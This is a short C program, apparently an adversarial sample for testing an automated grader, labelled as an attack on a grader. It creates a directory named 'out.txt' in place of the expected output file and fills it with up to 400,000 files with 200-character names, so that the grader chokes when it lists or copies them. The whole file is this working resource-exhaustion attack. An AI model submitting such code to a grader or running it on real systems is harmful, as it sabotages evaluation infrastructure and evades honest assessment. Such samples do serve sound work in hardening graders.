// Wants the grader to list and carry a folder of very many files.
// attack: c file
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
  char name[300]; mkdir("out.txt", 0777);
  for (long i = 0; i < 400000; i++) { snprintf(name, sizeof name, "out.txt/%0200ld", i); int fd = open(name, O_CREAT | O_WRONLY, 0666); if (fd < 0) break; close(fd); }
  return 0;
}
